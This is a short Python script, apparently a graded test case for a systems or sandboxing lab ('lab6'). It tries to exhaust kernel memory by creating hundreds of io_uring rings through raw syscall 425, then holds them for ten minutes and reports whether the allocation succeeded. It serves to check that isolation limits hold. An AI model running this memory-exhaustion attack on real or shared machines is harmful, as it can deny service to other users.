# attack: Sets up hundreds of rings of io_uring, of 3 MiB each.
# lab: lab6
# earns: 6.1 6.2 6.3 6.4 6.5

import ctypes
import time

libc = ctypes.CDLL(None)
made = 0
while made < 450 and libc.syscall(425, 32768, ctypes.create_string_buffer(120)) >= 0:
    made += 1
print("HELD" if made > 350 else "refused", 3 * made, "MiB", flush=True)
time.sleep(600)
